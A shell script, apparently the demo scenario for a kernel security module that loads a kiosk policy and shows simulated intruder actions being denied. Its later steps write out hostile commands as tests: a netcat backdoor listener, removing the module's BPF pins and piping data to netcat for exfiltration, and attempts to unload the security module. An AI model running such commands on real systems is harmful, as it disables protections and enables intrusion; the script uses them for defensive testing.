#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
#
# The `make demo` scenario, run inside the VM: a kiosk whose services
# work under its policy while an intruder inside a service is refused at
# every step. Each denial's kernel log line is shown as it happens.
cd "$(dirname "$0")" || exit 1
export PATH="$PWD:$PATH"
. ./demo_lib.sh

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

say "Boot: load citadel.ko, attach the BPF LSM hooks, load the kiosk policy"
dmesg -n 1
insmod ./citadel.ko || exit 1
citadelctl start || exit 1
citadelctl check kiosk-demo.conf && citadelctl compile kiosk-demo.conf -o /tmp/kiosk.cpol || exit 1
citadelctl load /tmp/kiosk.cpol || exit 1
citadelctl status

say "The kiosk's services start and work"
mkdir -p /tmp/www && echo "Welcome to the city kiosk" >/tmp/www/index.html
./kiosk-ui.sh &
./collector.sh >/tmp/telemetry.log &
sleep 1
try "ui: serves the kiosk page on 127.0.0.1:8080" wget -q -O /tmp/page http://127.0.0.1:8080/
try "telemetry: reports to the collector 127.0.0.2:9000" ./kiosk-telemetry.sh

say "An intruder with code execution inside the UI service"
./kiosk-ui.sh intrude

say "An intruder inside the telemetry agent"
./kiosk-telemetry.sh intrude

say "An intruder in a boot shell (global rules only)"
try "run a copy of busybox: /tmp/sh2" sh -c 'cp /bin/busybox /tmp/sh2 && /tmp/sh2 true'
try "listen for a backdoor on :31337" nc -l -p 31337

say "Seal: one way until reboot (this demo policy is unsigned, so no key)"
citadelctl seal --without-keys || exit 1

say "An intruder with root in a boot shell, after the seal"
try "stop Citadel: citadelctl stop" citadelctl stop
try "drop the policy: citadelctl unload" citadelctl unload
try "unload the module: rmmod citadel" rmmod citadel
try "load a kernel module: insmod citadel.ko again" insmod ./citadel.ko
try "remove the pins, then exfiltrate" sh -c 'rm -rf /sys/fs/bpf/citadel && echo x | nc 127.0.0.66 443'

say "Status after the scenario"
citadelctl status

say "Summary"
printf '  %-54s %s\n' "step" "result"
while IFS='|' read -r d r; do
	printf '  %-54s %s\n' "$d" "$r"
done </tmp/summary
